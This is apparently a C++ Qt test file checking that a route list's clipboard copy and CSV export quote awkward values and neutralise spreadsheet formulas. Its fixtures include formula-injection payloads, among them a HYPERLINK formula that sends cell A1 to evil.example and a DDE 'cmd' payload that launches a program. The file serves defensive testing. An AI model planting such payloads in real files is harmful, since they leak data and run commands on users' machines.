// Copying a list's selected row and exporting a whole list, as an operator does it: by Ctrl+C and
// by the list's context menu, and what then stands on the clipboard and in the file.
#include "controls/FileSaving.h"
#include "support/PageDriver.h"

#include <QAction>
#include <QFile>
#include <QTemporaryDir>

using namespace stowline;
using namespace stowline::test;

namespace {

// Quotes, a comma, a semicolon, a tab, markup characters, letters beyond ASCII, and blanks at
// both ends.
const QString Awkward = QString::fromUtf8(" A \"quoted\", semi; tab\there & <tag> Zürich ");
// As a spreadsheet field: quoted, with its quotes doubled.
const QString AwkwardField = '"' + QString(Awkward).replace(u'"', QStringLiteral("\"\"")) + '"';

// Descriptions a spreadsheet would evaluate, and numbers it reads as they are, each with the
// CSV field exported for it.
const struct {
    const char *code, *description, *field;
} Formulas[] = {
    {"F1", R"x(=HYPERLINK("http://evil.example/?q="&A1;"Details"))x",
     R"x("'=HYPERLINK(""http://evil.example/?q=""&A1;""Details"")")x"},
    {"F2", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
    {"F3", "-2-3", "'-2-3"},
    {"F4", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
    {"F5", "\t=1", "'\t=1"},
    {"F6", "-5", "-5"},
    {"F7", "+3.5", "+3.5"},
    {"F8", "A=1", "A=1"},
};

class ListCommandsTest : public PageTest {
protected:
    void seed() override {
        server->execute(
            QStringLiteral("INSERT INTO routes VALUES (40, 1, 'Q1', '%1', '2024')").arg(Awkward));
        int key = 41;
        for (const auto& formula : Formulas) {
            server->execute(QStringLiteral("INSERT INTO routes VALUES (%1, 1, '%2', '%3', '2024')")
                                .arg(key++)
                                .arg(qs(formula.code), qs(formula.description).replace("'", "''")));
        }
    }
    void SetUp() override {
        PageTest::SetUp();
        if (HasFatalFailure()) {
            return;
        }
        showPage(0);
        list = control<controls::ListView>("lstRoute");
        controls::setSaveFileNameAsker([this](const QString&) { return exportPath; });
    }
    void TearDown() override {
        controls::setSaveFileNameAsker({});
        PageTest::TearDown();
    }
    QAction* command(const char* text) {
        for (QAction* action : list->actions()) {
            if (action->text() == qs(text)) {
                return action;
            }
        }
        ADD_FAILURE() << "no command " << text;
        return nullptr;
    }
    QByteArray exported() {
        QFile file(exportPath);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(none)");
    }

    controls::ListView* list = nullptr;
    QTemporaryDir folder;
    QString exportPath = folder.filePath(QStringLiteral("routes.csv"));
};

TEST_F(ListCommandsTest, CtrlCCopiesTheSelectedRowAsASpreadsheetPastesIt) {
    QApplication::clipboard()->clear();
    QTest::keySequence(list, QKeySequence::Copy); // nothing selected: nothing copied
    EXPECT_EQ(QApplication::clipboard()->text(), QString());

    clickRow(*list, positionOf(*list, QStringLiteral("Q1")));
    QTest::keySequence(list, QKeySequence::Copy);
    EXPECT_EQ(QApplication::clipboard()->text(), "Route\tDescription\tFacility\nQ1\t" +
                                                     AwkwardField +
                                                     "\tNorthfield Distribution Center\n");
    // A value a spreadsheet would evaluate is copied as text.
    clickRow(*list, positionOf(*list, QStringLiteral("F1")));
    QTest::keySequence(list, QKeySequence::Copy);
    EXPECT_EQ(QApplication::clipboard()->text().split('\n').value(1),
              qs("F1\t") + Formulas[0].field + "\tNorthfield Distribution Center");
    EXPECT_TRUE(boxes.shown().empty());
}

TEST_F(ListCommandsTest, ExportWritesTheRowsShownInTheirOrderAsCsv) {
    clickRow(*list, 2);
    const int selected = selectedPosition(*list);
    // A right click opens the commands and changes neither the selection nor the mode.
    QTest::mouseClick(list->viewport(), Qt::RightButton, {},
                      list->visualRect(list->rowIndex(5)).center());
    EXPECT_EQ(list->contextMenuPolicy(), Qt::ActionsContextMenu);
    EXPECT_EQ(selectedPosition(*list), selected);
    clickHeader(*list, 1); // shown in descending order of the route code
    command("Export as CSV…")->trigger();

    const QList<QByteArray> lines = exported().split('\n');
    ASSERT_EQ(lines.size(), 23) << exported().toStdString(); // captions, 21 rows, nothing after
    EXPECT_EQ(lines[0], "Route,Description,Facility\r");
    EXPECT_EQ(lines[1], ("Q1," + AwkwardField + ",Northfield Distribution Center\r").toUtf8());
    EXPECT_EQ(lines[21], "01,Downtown Loop,Northfield Distribution Center\r");
    EXPECT_TRUE(lines[22].isEmpty());
    EXPECT_EQ(selectedPosition(*list), 1 + list->count() - selected); // the same row, resorted
    EXPECT_EQ(control<QPushButton>("cmdAddRoute")->text(), "Add Route");
    EXPECT_TRUE(boxes.shown().empty());
    // Values a spreadsheet would evaluate are written as text; plain numbers stay numbers.
    for (const auto& formula : Formulas) {
        EXPECT_TRUE(
            exported().contains(QByteArray(formula.code) + "," + formula.field + ",Northfield"))
            << formula.code;
    }
    // With a filter, the rows it shows.
    retype(control<QLineEdit>("txtRouteFilter"), qs("harbour"));
    command("Export as CSV…")->trigger();
    EXPECT_EQ(exported(), "Route,Description,Facility\r\n"
                          "H4,Coastal Highway,Harbour Point Cross-Dock\r\n"
                          "H3,Old Town & Market,Harbour Point Cross-Dock\r\n"
                          "H2,Bayview <Overnight>,Harbour Point Cross-Dock\r\n"
                          "H1,Harbour Front,Harbour Point Cross-Dock\r\n");
}

TEST_F(ListCommandsTest, AFileThatCannotBeWrittenIsReportedAndNothingIsLeft) {
    exportPath = folder.filePath(QStringLiteral("missing/routes.csv"));
    command("Export as CSV…")->trigger();
    EXPECT_EQ(boxes.errorBoxes(), 1);
    EXPECT_EQ(log.procedures(), QStringList{QStringLiteral("ExportList")});
    EXPECT_TRUE(log.entries().value(0).contains(exportPath))
        << log.entries().value(0).toStdString();
    EXPECT_FALSE(QFile::exists(exportPath));
    EXPECT_EQ(QDir(folder.path()).entryList(QDir::NoDotAndDotDot | QDir::AllEntries),
              QStringList());

    // While the page adds, the list cannot be used, nor its commands.
    clearRecords();
    click(control<QPushButton>("cmdAddRoute"));
    QApplication::clipboard()->clear();
    QTest::keySequence(list, QKeySequence::Copy);
    EXPECT_EQ(QApplication::clipboard()->text(), QString());
    EXPECT_TRUE(log.entries().isEmpty());
}

} // namespace
